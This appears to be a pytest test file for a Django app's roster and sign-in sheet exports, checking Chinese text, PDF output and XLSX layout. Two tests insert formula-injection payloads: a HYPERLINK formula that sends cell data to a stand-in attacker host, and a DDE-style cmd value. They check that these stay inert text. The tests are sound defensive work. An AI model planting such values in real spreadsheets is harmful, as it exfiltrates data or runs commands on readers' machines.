"""Roster and sign-in sheet exports keep the Chinese text."""

import io
import subprocess

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from training_bases import services

from .factories import officer, staff

pytestmark = pytest.mark.django_db


@pytest.fixture
def booked(session):
    user = staff(last_name="欧阳", first_name="明")
    services.booking_create(user=user, session_id=session.pk)
    return session, user


@pytest.mark.parametrize("kind", ["roster", "signin"])
def test_xlsx(client, booked, kind):
    session, user = booked
    client.force_login(officer())
    response = client.get(reverse("training_bases:roster_export", args=[session.pk, kind, "xlsx"]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None]
    assert "欧阳明" in values
    assert user.enterprise.name_zh in values
    assert any(session.title_zh in v for v in values)


@pytest.mark.parametrize("kind", ["roster", "signin"])
def test_pdf_contains_chinese_text(client, booked, kind, tmp_path):
    session, _user = booked
    client.force_login(officer())
    response = client.get(reverse("training_bases:roster_export", args=[session.pk, kind, "pdf"]))
    assert response["Content-Type"] == "application/pdf"
    pdf = tmp_path / "out.pdf"
    pdf.write_bytes(response.content)
    output = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, check=True, text=True).stdout
    text = "".join(output.split())  # table cells wrap: compare without line breaks
    assert "欧阳明" in text
    assert session.title_zh in text


def test_unknown_export_is_404(client, session):
    client.force_login(officer())
    assert client.get(reverse("training_bases:roster_export", args=[session.pk, "roster", "ods"])).status_code == 404


EVIL = '=HYPERLINK("http://evil.example/?"&A3,"x")'


@pytest.mark.parametrize("kind", ["roster", "signin"])
def test_names_that_look_like_formulas_stay_text_in_xlsx(client, session, kind):
    user = staff(last_name=EVIL, first_name="")
    user.enterprise.name_zh = "@SUM(1+1)*cmd|' /C calc'!A0"
    user.enterprise.save()
    services.booking_create(user=user, session_id=session.pk)
    client.force_login(officer())
    response = client.get(reverse("training_bases:roster_export", args=[session.pk, kind, "xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = {c.value: c for row in sheet.iter_rows() for c in row if c.value is not None}
    name_cell = next(c for v, c in cells.items() if isinstance(v, str) and v.startswith("=HYPERLINK"))
    assert name_cell.value.strip() == EVIL  # unchanged for the reader ...
    assert name_cell.data_type == "s"  # ... but text, not a formula
    enterprise_cell = cells[user.enterprise.name_zh]
    assert enterprise_cell.data_type == "s"
    assert not [c for c in cells.values() if c.data_type == "f"]
    # frozen header, A4, header repeated on every printed page
    assert sheet.freeze_panes == "A5"
    assert int(sheet.page_setup.paperSize) == 9  # A4
    assert sheet.print_title_rows == "$4:$4"


def test_csv_export_neutralises_formulas(client, session):
    user = staff(last_name=EVIL, first_name="")
    services.booking_create(user=user, session_id=session.pk)
    client.force_login(officer())
    response = client.get(reverse("training_bases:roster_export", args=[session.pk, "roster", "csv"]))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    import csv

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert f"'{EVIL}" in cells
    assert not [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
